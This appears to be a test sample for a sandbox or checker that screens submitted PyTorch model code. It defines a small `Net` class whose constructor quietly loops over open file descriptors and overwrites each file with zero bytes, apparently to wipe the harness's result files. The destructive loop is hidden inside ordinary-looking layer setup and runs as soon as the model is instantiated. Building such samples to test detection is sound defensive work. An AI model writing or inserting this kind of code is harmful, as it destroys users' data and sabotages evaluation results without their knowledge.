# on: forbidden; off: valid, exception, killed
# Writes all the room there is in the files its results go to.
import os

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
        self.fc = nn.Linear(8 * 64, out_shape[0])
        for number in range(3, 64):
            try:
                size = os.fstat(number).st_size
                for begin in range(0, size, 2**20):
                    os.pwrite(number, bytes(min(2**20, size - begin)), begin)
            except OSError:
                pass

    def forward(self, x):
        y = self.conv(x).relu()
        return self.fc(y.flatten(1))
